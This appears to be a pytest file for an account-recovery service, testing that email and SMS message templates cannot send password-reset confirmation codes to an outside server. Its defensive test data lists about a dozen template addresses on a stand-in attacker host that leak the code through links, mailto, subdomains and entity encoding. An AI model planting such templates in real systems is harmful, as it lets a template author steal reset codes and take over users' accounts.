"""Those who write the texts of messages: they get nobody's code, nothing leaves its cell, and no text keeps the server busy."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from housekey.core import markup
from housekey.core.errors import Throttled
from housekey.core.messages import EMAIL, SMS
from housekey.core.wording import MOST_HTML, Unfit, Words, judge

if TYPE_CHECKING:
    from tests.operations.support import World

LINK = '<p><a href="{{link}}">Los</a></p>'
BY_HAND = "{{account.recovery.endpoint-url}}/confirmrecovery.do?confirmation={{confirmation-code}}"
ELSEWHERE = (
    "https://evil.example/?confirmation={{confirmation-code}}", "https://evil.example/?{{url:link}}", "//evil.example/{{link}}",
    "mailto:x@evil.example?body={{confirmation-code}}", "https://evil.example/{{site-url}}?confirmation={{confirmation-code}}",
    "{{carbon.product-url}}.evil.example/?confirmation={{confirmation-code}}", "https://{{tenant-domain}}/?{{confirmation-code}}",
    "https://{{origin-host}}.evil.example/{{confirmation-code}}", "https://evil.example/?a='{{confirmation-code}}",
    "{{site-url}}?a|https://evil.example/{{confirmation-code}}", "{{link}},evil.example/{{confirmation-code}}",
    "https://evil.example/{{url:confirmation-code}}{{link}}", "{{confirmation-code}}.evil.example",
)
"""What a program would open somewhere else, with the code in it."""
HERE = ("{{link}}", BY_HAND, "https://{{origin-host}}/accountrecoveryendpoint/confirmrecovery.do?confirmation={{confirmation-code}}")


def wrong(html: str = "", text: str = "", kind: str = "AskPassword", channel: str = EMAIL) -> list[str]:
    words = Words("Hello" if channel == EMAIL else "", html, text)
    return [problem.say() for problem in judge(channel, kind, words) if not problem.harmless]


@pytest.mark.parametrize("address", ELSEWHERE)
def test_a_template_takes_no_code_to_another_server(address: str) -> None:
    """A-112, A-139: else whoever may write templates has the invitation of an administrator."""
    assert wrong(f'{LINK}<p><a href="{address}">x</a></p>'), "in a link"
    assert wrong(f"{LINK}<p>x {address} x</p>"), "as text that programs make a link of"
    assert wrong(f"{LINK}<p>{address.replace('/', '&#47;')}</p>"), "written with entities"
    assert wrong(text=f"{address}\n\n{{{{link}}}} confirmation={{{{confirmation-code}}}}"), "in the plain text"
    assert wrong(text=f"{{{{confirmation-code}}}} {address}", kind="AskPasswordSMSOTP", channel=SMS), "in a text message"


@pytest.mark.parametrize("address", HERE)
def test_the_code_still_goes_to_this_server(address: str) -> None:
    assert wrong(f'<p><a href="{address}">x</a></p>', f"Open ({address}) now.") == []
    assert wrong(f"<p>Link:{address}</p>", f"Link:{address}") == []


@pytest.mark.parametrize("text", [
    "Your code is...{{confirmation-code}}.", "Code:{{confirmation-code}}", "{{organization-name}}: {{confirmation-code}}",
    "Your code: {{confirmation-code}}\n@{{origin-host}} #{{confirmation-code}}", "See example.com.\n{{confirmation-code}}",
])
def test_a_code_to_read_stays_possible(text: str) -> None:
    assert wrong(text=text, kind="AskPasswordSMSOTP", channel=SMS) == []


@pytest.mark.parametrize("html", [
    "<table><table><tr><td>x</td></tr></table></table>", "<table><tbody><table></table></tbody></table>", "<table><p>x</p></table>",
    "<table><tr><table></table></tr></table>", "<table><tr><div></div></tr></table>", "<table><b>x</b></table>",
])
def test_a_table_holds_rows_and_nothing_else(html: str) -> None:
    """A-112: browsers end a table where the next one begins, so its end would end the cell around the whole mail."""
    assert wrong(LINK + html)


def test_attributes_are_told_apart_by_plain_blanks_only() -> None:
    """A-112: other blanks are part of a name to browsers."""
    for blank in ("\u2028", "\u00a0", "\u2003"):
        assert wrong(f'{LINK}<p{blank}class="x">x</p>')
        assert wrong(f'{LINK}<p class="x"{blank}title="y">x</p>')


def test_a_hundred_thousand_mistakes_are_looked_at_once() -> None:
    """A-111: the first twenty are told, so no more are looked for; each took a look at all the lines before it."""
    seen: list[int] = []

    class Watched(str):
        def count(self, *what: Any) -> int:
            seen.append(1)
            return super().count(*what)

    assert markup.findings(Watched("<" * MOST_HTML))
    assert len(seen) <= 100


def test_tests_of_a_template_are_counted(world: World) -> None:
    """A-042, A-111: each text message costs, and goes to whatever number one has given oneself."""
    from housekey.operations import templates

    world.add("boss", role="admin")
    by = world.acting_as("boss")
    words = Words("Hello", LINK, "")

    def tests() -> None:
        for _ in range(50):
            templates.send_test(world.house, by, EMAIL, "AskPassword", "en", words, world.now)

    with pytest.raises(Throttled):
        tests()


def test_a_refused_template_is_not_saved(world: World) -> None:
    from housekey.operations import templates

    with pytest.raises(Unfit):
        templates.save(world.by, EMAIL, "AskPassword", "en", "Hello", f'{LINK}<a href="{ELSEWHERE[0]}">x</a>', "", None, world.now)
